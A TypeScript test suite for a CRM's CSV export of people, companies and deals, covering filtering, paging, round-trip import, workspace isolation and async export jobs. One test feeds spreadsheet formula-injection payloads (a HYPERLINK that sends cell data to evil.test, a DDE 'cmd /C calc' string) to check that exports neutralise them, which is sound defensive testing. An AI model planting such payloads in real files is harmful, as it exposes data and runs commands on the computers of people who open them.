import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { eventually, startTestEnv, type TestEnv } from '../../test/helpers.ts';
import { multipart } from '../../test/multipart.ts';

describe('CSV export', () => {
  let env: TestEnv;
  let a: Awaited<ReturnType<TestEnv['workspace']>>;
  let b: Awaited<ReturnType<TestEnv['workspace']>>;
  const dir = mkdtempSync(join(tmpdir(), 'kt-exports-'));

  beforeAll(async () => {
    env = await startTestEnv({ importDir: dir });
    a = await env.workspace('exp-a');
    b = await env.workspace('exp-b');
  });
  afterAll(async () => {
    await env?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const post = async (auth: any, url: string, payload: unknown) => {
    const r = await env.app.inject({ method: 'POST', url, headers: auth, payload: payload as any });
    expect(r.statusCode, r.body).toBeLessThan(300);
    return r.json();
  };

  it('exports the filtered, sorted list view (all pages) and re-imports it unchanged', async () => {
    await post(a.auth, '/api/v1/custom-fields', {
      entity: 'person',
      key: 'segment',
      label: 'Сегмент',
      type: 'select',
      options: ['A', 'B'],
    });
    const acme = await post(a.auth, '/api/v1/companies', { name: 'ООО "Ромашка", филиал' });
    await post(a.auth, '/api/v1/people', {
      firstName: 'Алёна',
      lastName: 'Ёлкина',
      emails: ['alena@example.ru'],
      phones: ['8 912 345 67 89'],
      companyId: acme.id,
      city: 'Казань',
      tags: ['vip', 'опт'],
      customFields: { segment: 'A' },
      birthday: '1990-05-01',
    });
    await post(a.auth, '/api/v1/people', {
      firstName: 'John',
      lastName: 'Smith',
      emails: ['john@example.com'],
      city: 'Казань',
      externalId: 'X-1',
    });
    await post(a.auth, '/api/v1/people', {
      firstName: 'Outside',
      lastName: 'Filter',
      emails: ['out@example.com'],
      city: 'Пермь',
    });
    // More than one export page.
    for (let i = 0; i < 3; i++)
      await post(a.auth, '/api/v1/people', { firstName: `Bulk${i}`, lastName: 'Zz', city: 'Казань' });

    const r = await env.app.inject({
      method: 'GET',
      url: `/api/v1/people/export.csv?city=${encodeURIComponent('Казань')}&sort=lastName&order=asc`,
      headers: a.auth,
    });
    expect(r.statusCode, r.body).toBe(200);
    expect(r.headers['content-type']).toContain('text/csv');
    expect(r.headers['content-disposition']).toMatch(/attachment; filename="people-\d{4}-\d{2}-\d{2}\.csv"/);
    expect(r.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows: string[][] = parse(r.body.slice(1));
    expect(rows[0]).toEqual([
      'id',
      'firstName',
      'lastName',
      'email',
      'phone',
      'company',
      'position',
      'ownerEmail',
      'lifecycleStage',
      'source',
      'street',
      'city',
      'region',
      'country',
      'postalCode',
      'birthday',
      'tags',
      'externalId',
      'createdAt',
      'updatedAt',
      'cf.segment',
    ]);
    const col = (name: string) => rows[0].indexOf(name);
    // The list's own sort (last name A→Z) and filter (city): Smith, Zz×3, Ёлкина — whatever order the list gives.
    const list = (
      await env.app.inject({
        method: 'GET',
        url: `/api/v1/people?city=${encodeURIComponent('Казань')}&sort=lastName&order=asc&limit=500`,
        headers: a.auth,
      })
    ).json();
    expect(rows.slice(1).map((x) => x[col('id')])).toEqual(list.data.map((p: any) => p.id));
    expect(rows.length - 1).toBe(5);
    const alena = rows.find((x) => x[col('lastName')] === 'Ёлкина')!;
    expect([
      alena[col('email')],
      alena[col('phone')],
      alena[col('company')],
      alena[col('tags')],
      alena[col('cf.segment')],
      alena[col('birthday')],
    ]).toEqual(['alena@example.ru', '+79123456789', 'ООО "Ромашка", филиал', 'vip, опт', 'A', '1990-05-01']);

    // Paging through all pages: a page size below the row count still gives every row once.
    env.kernel.crm.exports.pageSize = 2;
    const all = await env.app.inject({ method: 'GET', url: '/api/v1/people/export.csv', headers: a.auth });
    env.kernel.crm.exports.pageSize = 500;
    const ids = parse(all.body.slice(1))
      .slice(1)
      .map((x: string[]) => x[0]);
    expect(ids.length).toBe(6);
    expect(new Set(ids).size).toBe(6);
    // A bad filter is a 400 before anything is sent, not a download cut short.
    const bad = await env.app.inject({
      method: 'GET',
      url: '/api/v1/people/export.csv?createdFrom=yesterday',
      headers: a.auth,
    });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error.details[0].path).toContain('createdFrom');

    // Round trip: the file imports into another workspace as the same people, mapped automatically.
    await post(b.auth, '/api/v1/custom-fields', {
      entity: 'person',
      key: 'segment',
      label: 'Сегмент',
      type: 'select',
      options: ['A', 'B'],
    });
    const m = multipart({ entity: 'people' }, { name: 'people.csv', content: r.rawPayload });
    const up = await env.app.inject({
      method: 'POST',
      url: '/api/v1/imports',
      headers: { ...b.auth, ...m.headers },
      payload: m.payload,
    });
    expect(up.statusCode, up.body).toBe(201);
    const mapping = { ...up.json().suggestedMapping };
    expect(mapping).toMatchObject({
      firstName: 'firstName',
      lastName: 'lastName',
      email: 'email',
      phone: 'phone',
      company: 'company',
      city: 'city',
      tags: 'tags',
      externalId: 'externalId',
      birthday: 'birthday',
      'cf.segment': 'cf.segment',
    });
    expect(
      (
        await env.app.inject({
          method: 'POST',
          url: `/api/v1/imports/${up.json().id}/start`,
          headers: b.auth,
          payload: { mapping, upsertBy: null },
        })
      ).statusCode,
    ).toBe(202);
    const done = await eventually(async () => {
      const x = (
        await env.app.inject({ method: 'GET', url: `/api/v1/imports/${up.json().id}`, headers: b.auth })
      ).json();
      return x.status === 'done' ? x : null;
    });
    expect(done).toMatchObject({ createdRows: 5, failedRows: 0 });
    const again = await env.app.inject({
      method: 'GET',
      url: `/api/v1/people/export.csv?sort=lastName&order=asc`,
      headers: b.auth,
    });
    const rowsB: string[][] = parse(again.body.slice(1));
    const strip = (rs: string[][]) =>
      rs.slice(1).map((x) => x.filter((_, i) => !['id', 'createdAt', 'updatedAt'].includes(rows[0][i])));
    expect(strip(rowsB)).toEqual(strip(rows));
  });

  it('exports companies and deals', async () => {
    const p = await post(a.auth, '/api/v1/pipelines', {
      name: 'Продажи',
      stages: [
        { name: 'Новая', probability: 10, kind: 'open' },
        { name: 'Успех', probability: 100, kind: 'won' },
      ],
    });
    const co = await post(a.auth, '/api/v1/companies', { name: 'АО Василёк', city: 'Тула', tags: ['b2b'] });
    await post(a.auth, '/api/v1/deals', {
      title: 'Поставка',
      pipelineId: p.id,
      stageId: p.stages[0].id,
      amount: 1500.5,
      currency: 'RUB',
      companyId: co.id,
    });
    const c = await env.app.inject({
      method: 'GET',
      url: `/api/v1/companies/export.csv?q=${encodeURIComponent('василёк')}`,
      headers: a.auth,
    });
    expect(c.statusCode, c.body).toBe(200);
    const crow: string[][] = parse(c.body.slice(1));
    expect(crow.length).toBe(2);
    expect(crow[1][crow[0].indexOf('name')]).toBe('АО Василёк');
    const d = await env.app.inject({
      method: 'GET',
      url: `/api/v1/deals/export.csv?pipelineId=${p.id}`,
      headers: a.auth,
    });
    expect(d.statusCode, d.body).toBe(200);
    const drow: string[][] = parse(d.body.slice(1));
    expect(
      drow
        .slice(1)
        .map((x) => [
          x[drow[0].indexOf('title')],
          x[drow[0].indexOf('pipeline')],
          x[drow[0].indexOf('stage')],
          x[drow[0].indexOf('amount')],
          x[drow[0].indexOf('company')],
        ]),
    ).toEqual([['Поставка', 'Продажи', 'Новая', '1500.5', 'АО Василёк']]);
    // B sees none of A's rows.
    const bd = await env.app.inject({ method: 'GET', url: '/api/v1/deals/export.csv', headers: b.auth });
    expect(parse(bd.body.slice(1)).length).toBe(1);
    expect(
      (await env.app.inject({ method: 'GET', url: '/api/v1/deals/export.csv?status=nope', headers: a.auth }))
        .statusCode,
    ).toBe(400);
  });
  it('neutralises formula cells in people and companies exports and in an import errors.csv', async () => {
    const f = await env.workspace('exp-formula');
    const evil = '=HYPERLINK("http://evil.test/?x="&A1,"Click")';
    const co = await post(f.auth, '/api/v1/companies', {
      name: "@SUM(1+1)*cmd|' /C calc'!A0",
      city: '+7 (912) кабинет',
    });
    await post(f.auth, '/api/v1/people', {
      firstName: evil,
      lastName: '-2+3+cmd',
      companyId: co.id,
      position: '+1-2',
      phones: ['+79123456780'],
    });
    const people = await env.app.inject({ method: 'GET', url: '/api/v1/people/export.csv', headers: f.auth });
    const prow: string[][] = parse(people.body.slice(1));
    const p = (name: string) => prow[1][prow[0].indexOf(name)];
    expect([p('firstName'), p('lastName'), p('company'), p('position')]).toEqual([
      `'${evil}`,
      "'-2+3+cmd",
      `'@SUM(1+1)*cmd|' /C calc'!A0`,
      "'+1-2",
    ]);
    // A plain signed number (an E.164 phone) is a number to a spreadsheet, not a formula: left as is.
    expect(p('phone')).toBe('+79123456780');
    const companies = await env.app.inject({ method: 'GET', url: '/api/v1/companies/export.csv', headers: f.auth });
    const crow: string[][] = parse(companies.body.slice(1));
    expect(crow[1][crow[0].indexOf('name')]).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    expect(crow[1][crow[0].indexOf('city')]).toBe("'+7 (912) кабинет");

    // An import's errors file hands back the rows as they were, neutralised too.
    const file = Buffer.from(`firstName,email\n"${evil.replace(/"/g, '""')}",not-an-email\n`);
    const m = multipart({ entity: 'people' }, { name: 'bad.csv', content: file });
    const up = await env.app.inject({
      method: 'POST',
      url: '/api/v1/imports',
      headers: { ...f.auth, ...m.headers },
      payload: m.payload,
    });
    expect(up.statusCode, up.body).toBe(201);
    expect(
      (
        await env.app.inject({
          method: 'POST',
          url: `/api/v1/imports/${up.json().id}/start`,
          headers: f.auth,
          payload: { mapping: { firstName: 'firstName', email: 'email' }, upsertBy: null },
        })
      ).statusCode,
    ).toBe(202);
    await eventually(
      async () =>
        (await env.app.inject({ method: 'GET', url: `/api/v1/imports/${up.json().id}`, headers: f.auth })).json()
          .status === 'done',
    );
    const errors = await env.app.inject({
      method: 'GET',
      url: `/api/v1/imports/${up.json().id}/errors.csv`,
      headers: f.auth,
    });
    expect(errors.statusCode, errors.body).toBe(200);
    const erow: string[][] = parse(errors.body.slice(1), { relax_column_count: true });
    expect(erow[0]).toEqual(['firstName', 'email', 'error']);
    expect(erow[1][0]).toBe(`'${evil}`);
    expect(erow[1][1]).toBe('not-an-email');
  });

  it('exports as a job: chunks to a file, progress, a download link; the GET answers 202 to Prefer: respond-async when large', async () => {
    const j = await env.workspace('exp-job');
    for (let i = 0; i < 7; i++)
      await post(j.auth, '/api/v1/people', {
        firstName: i === 3 ? '=1+1' : `Job${i}`,
        lastName: 'Export',
        city: 'Омск',
      });
    await post(j.auth, '/api/v1/people', { firstName: 'Not', lastName: 'Included', city: 'Тверь' });
    const exp = env.kernel.crm.exports;
    exp.jobPageSize = 3; // several chunks
    try {
      const started = await env.app.inject({
        method: 'POST',
        url: `/api/v1/people/export?city=${encodeURIComponent('Омск')}&sort=firstName`,
        headers: j.auth,
      });
      expect(started.statusCode, started.body).toBe(202);
      const { jobId, statusUrl, downloadUrl } = started.json();
      expect(downloadUrl).toBe(`/api/v1/exports/${jobId}/download`);
      const job = await eventually(async () => {
        const s = (await env.app.inject({ method: 'GET', url: statusUrl, headers: j.auth })).json();
        if (s.state === 'failed' || s.state === 'dead') throw new Error(JSON.stringify(s));
        return s.state === 'completed' ? s : null;
      });
      expect(job.output).toMatchObject({ rows: 7, fileName: expect.stringMatching(/^people-\d{4}-\d{2}-\d{2}\.csv$/) });
      expect(job.progress).toBe(1);
      const file = await env.app.inject({ method: 'GET', url: downloadUrl, headers: j.auth });
      expect(file.statusCode, file.body).toBe(200);
      expect(file.headers['content-disposition']).toMatch(/attachment; filename="people-/);
      const rows: string[][] = parse(file.body.slice(1));
      expect(rows.length).toBe(8);
      const sync = parse(
        (
          await env.app.inject({
            method: 'GET',
            url: `/api/v1/people/export.csv?city=${encodeURIComponent('Омск')}&sort=firstName`,
            headers: j.auth,
          })
        ).body.slice(1),
      );
      expect(rows).toEqual(sync);
      expect(rows.map((r) => r[1])).toContain("'=1+1");
      // Another workspace cannot fetch it; a bad filter is a 400 before any job.
      expect((await env.app.inject({ method: 'GET', url: downloadUrl, headers: a.auth })).statusCode).toBe(404);
      expect(
        (await env.app.inject({ method: 'POST', url: '/api/v1/people/export?createdFrom=yesterday', headers: j.auth }))
          .statusCode,
      ).toBe(400);

      // GET export.csv: a stream for every client, unless it prefers a job and the workspace is over the sync limit.
      exp.syncMaxRows = 5;
      const plain = await env.app.inject({ method: 'GET', url: '/api/v1/people/export.csv', headers: j.auth });
      expect(plain.statusCode).toBe(200);
      expect(parse(plain.body.slice(1)).length).toBe(9);
      const preferred = await env.app.inject({
        method: 'GET',
        url: '/api/v1/people/export.csv',
        headers: { ...j.auth, prefer: 'respond-async' },
      });
      expect(preferred.statusCode, preferred.body).toBe(202);
      expect(preferred.headers['preference-applied']).toBe('respond-async');
      expect(preferred.json().jobId).toBeTruthy();
      exp.syncMaxRows = 100;
      expect(
        (
          await env.app.inject({
            method: 'GET',
            url: '/api/v1/people/export.csv',
            headers: { ...j.auth, prefer: 'respond-async' },
          })
        ).statusCode,
      ).toBe(200);
    } finally {
      exp.jobPageSize = 2000;
      exp.syncMaxRows = 10_000;
    }
  });
});
